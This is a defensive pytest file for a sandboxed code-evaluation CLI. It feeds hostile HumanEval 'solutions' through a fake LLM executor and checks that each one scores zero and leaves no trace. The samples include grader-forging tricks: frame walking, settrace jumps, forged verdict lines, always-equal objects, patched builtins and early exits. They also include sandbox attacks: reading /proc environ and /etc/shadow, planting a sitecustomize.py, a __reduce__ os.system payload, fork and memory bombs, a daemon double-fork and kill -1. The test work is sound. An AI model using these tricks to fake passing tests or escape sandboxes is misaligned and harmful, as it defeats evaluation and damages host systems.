"""Hostile executor answers: what an LLM may return as the code of a HumanEval solution, run end to end
through `spogw exec-workflow` (the real CLI, a subprocess) with a local fake OpenAI-compatible executor,
under each available isolation (bwrap; docker when an engine can start, else skipped saying why).

Two fixed workflows: one returns `code_generate`'s answer (scored by the hidden tests), one passes it
through the `test` operator (public tests) first. The fake executor answers the i-th code request with the
i-th answer below; `--runs N` executes the workflow N times in one CLI call, and the CLI's JSON lists each
run's score and status, so many answers share one CLI start-up (each run is still its own workflow
process, its own two verdict processes).

Every hostile answer returns a WRONG result (`return True`; HumanEval/0 also expects False) after trying
its trick, so: every hostile run must score 0, the correct control (first and last run) must score 1, no
run may end in executor_error, and afterwards no side effect may remain: no connection reached the
listener, no secret (parent env, parent files) appears in the output, no file appeared outside the
sandbox, no process of the sandbox survives, and the parent (the CLI, which printed its JSON) lived.
"""

from __future__ import annotations

import concurrent.futures
import json
import os
import re
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from spogw_dagster.sandboxing import SandboxUnavailableError, detect_isolation
from tests.fake_openai_server import FakeOpenAIServer
from tests.fakes import connection_recorder

REPO = Path(__file__).resolve().parents[1]
SECRET = "sk-hostile-" + uuid.uuid4().hex
MARK = uuid.uuid4().hex  # in every path and process name an attack leaves behind

CODE_WF = ("class Workflow:\n    async def run(self):\n"
           "        return await self.code_generate(instruction=\"Write the code.\")\n")
TEST_WF = ("class Workflow:\n    async def run(self):\n"
           "        solution = await self.code_generate(instruction=\"Write the code.\")\n"
           "        return await self.test(solution=solution)\n")

CONTROL = '''def has_close_elements(numbers, threshold):
    return any(abs(a - b) < threshold for i, a in enumerate(numbers) for b in numbers[i + 1:])
'''

# Each attack is a complete solution module; {…} fields are filled per test (ports, paths, marker).
FORGERIES = {
    # (a) of issue 7: walk the frames to the test program, print its pass token, exit 0
    "frame_walk": '''
import os, sys
def has_close_elements(numbers, threshold):
    f = sys._getframe()
    while f is not None:
        for c in f.f_code.co_consts:
            if isinstance(c, str) and ("PASSED" in c or "verdict" in c):
                sys.stdout.write(c + "\\n")
        f = f.f_back
    sys.stdout.flush()
    os._exit(0)
''',
    # (b): the same from a class body at import time, through a traceback
    "traceback_class_body": '''
import os
class _Sneak:
    try:
        raise ValueError
    except ValueError as e:
        f = e.__traceback__.tb_frame
        while f is not None:
            for c in f.f_code.co_consts:
                if isinstance(c, str) and "PASSED" in c:
                    print(c)
            f = f.f_back
    os._exit(0)
def has_close_elements(numbers, threshold):
    return True
''',
    # (c): a tracer that jumps every frame but the solution's to its last line (over check(...))
    "settrace_jump": '''
import sys
def _jump(frame, event, arg):
    if event == "line" and frame.f_code.co_filename != "<solution>":
        try:
            frame.f_lineno = max(l for _, _, l in frame.f_code.co_lines() if l)
        except Exception:
            pass
    return _jump
sys.settrace(_jump)
f = sys._getframe().f_back
while f is not None:
    f.f_trace = _jump
    f = f.f_back
def has_close_elements(numbers, threshold):
    return True
''',
    # make the host's encoder claim True for everything, found through gc
    "gc_get_objects": '''
import gc
for o in gc.get_objects():
    if isinstance(o, dict) and "encode" in o and "_call" in o:
        o["encode"] = lambda value, *a: ["B", True]
def has_close_elements(numbers, threshold):
    return False
''',
    # find the host's globals (they refer to the builtins module) and send a forged verdict before each reply
    "gc_get_referrers": '''
import gc, sys
def has_close_elements(numbers, threshold):
    for d in gc.get_referrers(sys.modules["builtins"]):
        if isinstance(d, dict) and "_send" in d:
            real = d["_send"]
            def forged(out, obj, real=real):
                out.write(b'{"type": "verdict", "records": [{"index": 0, "test": "x", "passed": true, "error": ""}]}\\n')
                real(out, obj)
            d["_send"] = forged
    return True
''',
    # write verdict / reply / ready lines on every descriptor
    "forged_protocol_lines": '''
import os
def has_close_elements(numbers, threshold):
    lines = [b'{"type": "verdict", "records": [{"index": 0, "test": "check", "passed": true, "error": ""}]}\\n',
             b'{"type": "reply", "id": 1, "ok": true, "value": ["B", false], "after": []}\\n',
             b'{"type": "loaded"}\\n', b"SPOGW-HIDDEN-TESTS-PASSED-0000000000000000\\n"]
    for fd in range(64):
        for line in lines:
            try:
                os.write(fd, line)
            except OSError:
                pass
    return True
''',
    "patched_builtins": '''
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.__dict__["len"] = lambda x: 0
builtins.__dict__["any"] = lambda x: True
def has_close_elements(numbers, threshold):
    return True
''',
    # the official harness execs prompt + completion + tests as one program: swallow the tests in a string
    "assert_swallowing_string": '''
def has_close_elements(numbers, threshold):
    return True
_swallowed = """
''',
    # a shadowed builtin the tests use, and a `check` of our own
    "shadow_check_and_abs": '''
def check(candidate):
    pass
def abs(x):
    return 0
def has_close_elements(numbers, threshold):
    return True
''',
    "always_equal_object": '''
class _Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    __hash__ = object.__hash__
def has_close_elements(numbers, threshold):
    return _Anything()
''',
    "eq_true_int_subclass": '''
class _Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def has_close_elements(numbers, threshold):
    return _Int(1)
''',
    "eq_true_str_and_list_subclasses": '''
class _Str(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class _List(list):
    def __eq__(self, other):
        return True
def has_close_elements(numbers, threshold):
    return _List([_Str("x")])
''',
    "metaclass_eq_and_fake_class": '''
class _Meta(type):
    def __eq__(cls, other):
        return True
    __hash__ = type.__hash__
class _Fake(metaclass=_Meta):
    __class__ = property(lambda self: bool)
    def __eq__(self, other):
        return True
def has_close_elements(numbers, threshold):
    return _Fake()
''',
    "misbehaving_repr_and_reduce": '''
import os
class _Evil:
    def __repr__(self):
        raise RuntimeError("no repr")
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-{mark}",))
def has_close_elements(numbers, threshold):
    return [_Evil()]
''',
    "raise_stop_iteration": '''
def has_close_elements(numbers, threshold):
    raise StopIteration
''',
    "exception_with_verdict_message": '''
class _Boom(Exception):
    def __str__(self):
        return 'passed"}]}\\n{"type": "verdict", "records": []}'
def has_close_elements(numbers, threshold):
    raise _Boom()
''',
    "os_exit_at_import": '''
import os
def has_close_elements(numbers, threshold):
    return True
os._exit(0)
''',
    "os_exit_in_entry_point": '''
import os
def has_close_elements(numbers, threshold):
    os._exit(0)
''',
    "sys_exit_at_import": '''
import sys
def has_close_elements(numbers, threshold):
    return True
sys.exit(0)
''',
    "system_exit_in_entry_point": '''
def has_close_elements(numbers, threshold):
    raise SystemExit(0)
''',
}

ATTACKS = {
    "network": '''
import socket
def _try(fn):
    try:
        fn()
    except Exception:
        pass
def _connect(host, port):
    s = socket.socket()
    s.settimeout(1)
    s.connect((host, port))
    s.sendall(b"{secret_probe}")
_try(lambda: _connect("127.0.0.1", {port}))
_try(lambda: _connect("127.0.0.1", {llm_port}))
_try(lambda: _connect("10.0.0.1", 80))
_try(lambda: socket.getaddrinfo("example.com", 80))
def has_close_elements(numbers, threshold):
    _try(lambda: _connect("127.0.0.1", {port}))
    return True
''',
    "read_secrets": '''
import os
def has_close_elements(numbers, threshold):
    found = [repr(dict(os.environ))]
    for path in ["{secret_file}", "/proc/1/environ", "/proc/self/environ", "/proc/%d/environ" % os.getppid(),
                 os.path.expanduser("~/.netrc"), "/etc/shadow"]:
        try:
            with open(path, "rb") as f:
                found.append(f.read(4096).decode("latin-1"))
        except Exception as e:
            found.append(type(e).__name__)
    raise ValueError(" ".join(found))
''',
    "writes_outside_scratch": '''
import os, sys, sysconfig
def has_close_elements(numbers, threshold):
    targets = ["{repo}/pwned-{mark}", "{host_tmp}/pwned-{mark}", "/work/pwned-{mark}",
               os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
               os.path.join(os.path.dirname(os.__file__), "pwned-{mark}.py"), "/root/pwned-{mark}"]
    for t in targets:
        try:
            with open(t, "w") as f:
                f.write("import os; os.system('touch /tmp/pwned-{mark}')\\n")
        except Exception:
            pass
    return True
''',
    "fork_bomb": '''
import os
def has_close_elements(numbers, threshold):
    try:
        while True:
            if os.fork() == 0:
                while True:
                    pass
    except OSError:
        pass
    return True
''',
    "daemon_double_fork": '''
import os, sys
def has_close_elements(numbers, threshold):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "daemon-{mark}"])
        os._exit(0)
    return True
''',
    "memory_bomb": '''
def has_close_elements(numbers, threshold):
    hog = []
    try:
        while True:
            hog.append(bytearray(64 * 2**20))
    except MemoryError:
        pass
    return True
''',
    "kill_parent": '''
import os, signal
def has_close_elements(numbers, threshold):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return True
''',
    "kill_everything": '''
import os, signal
def has_close_elements(numbers, threshold):
    os.kill(-1, signal.SIGKILL)
    return True
''',
    "output_flood_at_import": '''
import sys
sys.stdout.write("x" * 50_000_000)
def has_close_elements(numbers, threshold):
    return True
''',
    "output_flood_in_call": '''
import os
def has_close_elements(numbers, threshold):
    for _ in range(1000):
        os.write(2, b"y" * 100_000)
    return True
''',
    "infinite_loop_at_import": '''
while True:
    pass
def has_close_elements(numbers, threshold):
    return True
''',
    "infinite_loop_in_call": '''
def has_close_elements(numbers, threshold):
    while True:
        pass
''',
}

# The `test` operator's public tests: exit-code tricks and forgeries that once passed them (no loops:
# each failing round also asks the executor for two fixes).
TEST_OPERATOR_ANSWERS = ["os_exit_at_import", "os_exit_in_entry_point", "frame_walk", "always_equal_object",
                         "eq_true_int_subclass", "patched_builtins"]


def _fill(code: str, fields: dict[str, str]) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: fields.get(m.group(1), m.group(0)), code)


def _answer(name: str, code: str) -> str:
    return f"Here is the function.\n\n```python\n# ATTACK:{name}\nfrom typing import List\n{code.strip()}\n```\n"


@pytest.fixture(params=["bwrap", "docker"])
def isolation(request):
    if request.param == "docker":
        request.getfixturevalue("docker_engine")  # starts an engine or skips, saying why none can start
        try:
            detect_isolation("docker")
        except SandboxUnavailableError as e:
            pytest.skip(f"docker sandbox not usable: {e}")
    else:
        detect_isolation("bwrap")  # must work here: a failure is a failure, not a skip
    return request.param


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records every connection: no sandboxed code may reach it."""
    with connection_recorder() as recorder:
        yield recorder


class _Answers:
    """The fake executor's replies: the next answer for each code request; a fix request (from the `test`
    operator) gets the same answer again (named by its `# ATTACK:` line, which the fix prompt quotes)."""

    def __init__(self, answers: list[tuple[str, str]]):
        self.queue = list(answers)
        self.by_name = dict(answers)
        self.lock = threading.Lock()

    def __call__(self, body: dict, n: int) -> str:
        prompt = str(body["messages"][-1]["content"])
        with self.lock:
            m = re.search(r"# ATTACK:(\w+)", prompt)
            if "fails a test" in prompt and m:
                return self.by_name[m.group(1)]
            return self.queue.pop(0)[1] if self.queue else "no more answers"


def _exec_workflow(workflow: Path, server: FakeOpenAIServer, isolation: str, runs: int, env: dict) -> dict:
    out = subprocess.run(
        [sys.executable, "-m", "spogw_dagster.cli", "exec-workflow", "--benchmark", "humaneval", "--query",
         "HumanEval/0", "--workflow", str(workflow), "--executor-url", server.base_url, "--executor-model",
         server.model, "--no-cache", "--isolation", isolation, "--runs", str(runs), "--json"],
        capture_output=True, text=True, env=env, timeout=900)
    assert out.returncode == 0, out.stderr[-2000:]  # the parent lived and answered
    assert SECRET not in out.stdout + out.stderr
    return json.loads(out.stdout)


def _sandbox_processes_left(grace_s: float = 5.0) -> list[str]:
    """Processes still running a solution host, or an attack's daemon (by its marker), after a grace period
    for the kernel to finish off a killed sandbox."""
    deadline = time.monotonic() + grace_s
    while True:
        left = _sandbox_processes()
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.2)


def _sandbox_processes() -> list[str]:
    left = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            cmdline = (d / "cmdline").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if f"daemon-{MARK}" in cmdline or "holds the solution under test" in cmdline:
            left.append(f"{d.name}: {cmdline[:80]!r}")
    return left


def test_hostile_answers_score_zero_and_leave_no_trace(isolation, listener, tmp_path):
    port, hits = listener
    secret_file = REPO / f".hostile-secret-{MARK}"
    secret_file.write_text(SECRET)
    host_tmp = tmp_path
    try:
        with FakeOpenAIServer() as server:
            fields = {"port": str(port), "llm_port": str(server.port), "secret_file": str(secret_file),
                      "repo": str(REPO), "host_tmp": str(host_tmp), "mark": MARK, "secret_probe": SECRET[:8]}
            hostile = {**FORGERIES, **ATTACKS}
            code_answers = ([("control", _answer("control", CONTROL))]
                            + [(k, _answer(k, _fill(v, fields))) for k, v in hostile.items()]
                            + [("control_again", _answer("control_again", CONTROL))])
            test_answers = ([("control", _answer("control", CONTROL))]
                            + [(k, _answer(k, _fill(hostile[k], fields))) for k in TEST_OPERATOR_ANSWERS]
                            + [("control_again", _answer("control_again", CONTROL))])
            env = {**os.environ, "OPENAI_API_KEY": SECRET, "SPOGW_TEST_SECRET": SECRET,
                   "SPOGW_CACHE_DIR": str(tmp_path / "cache")}
            code_wf, test_wf = tmp_path / "code_wf.py", tmp_path / "test_wf.py"
            code_wf.write_text(CODE_WF)
            test_wf.write_text(TEST_WF)
            # one server, two CLIs in flight: route each CLI's requests by its own answer queue
            code_srv, test_srv = FakeOpenAIServer(), FakeOpenAIServer()
            code_srv.answer_fn, test_srv.answer_fn = _Answers(code_answers), _Answers(test_answers)
            with code_srv, test_srv, concurrent.futures.ThreadPoolExecutor(2) as pool:
                code_run = pool.submit(_exec_workflow, code_wf, code_srv, isolation, len(code_answers), env)
                test_run = pool.submit(_exec_workflow, test_wf, test_srv, isolation, len(test_answers), env)
                code_out, test_out = code_run.result(), test_run.result()
                test_llm_calls = test_srv.request_count
    finally:
        secret_file.unlink()

    names = [name for name, _ in code_answers]
    scores = dict(zip(names, code_out["run_scores"]))
    assert code_out["isolation"] == isolation and len(code_out["run_scores"]) == len(names)
    assert set(code_out["run_statuses"]) == {"ok"}, code_out  # never executor_error: every run was scored
    assert (scores["control"], scores["control_again"]) == (1.0, 1.0), code_out
    assert {k: s for k, s in scores.items() if not k.startswith("control") and s != 0.0} == {}, code_out

    t_names = [name for name, _ in test_answers]
    t_scores = dict(zip(t_names, test_out["run_scores"]))
    assert set(test_out["run_statuses"]) == {"ok"}, test_out
    assert (t_scores["control"], t_scores["control_again"]) == (1.0, 1.0), test_out
    assert {k: s for k, s in t_scores.items() if not k.startswith("control") and s != 0.0} == {}, test_out
    # the test operator passed only the controls: every hostile answer failed its public tests, so each
    # cost 1 generation + 2 fix requests; a "pass" would have returned after the first
    assert test_llm_calls == 2 + 3 * len(TEST_OPERATOR_ANSWERS), test_out

    assert hits == []  # no connection reached the host
    assert sorted(p.name for p in REPO.glob(f"pwned-{MARK}*")) == []
    assert sorted(p.name for p in host_tmp.glob("pwned-*")) == []
    assert not Path(f"/tmp/pwned-{MARK}").exists() and not Path(f"/work/pwned-{MARK}").exists()
    assert not any(Path(p).exists() for p in sys.path if p and (Path(p) / "sitecustomize.py").exists()
                   and MARK in (Path(p) / "sitecustomize.py").read_text(errors="replace"))
    assert _sandbox_processes_left() == []
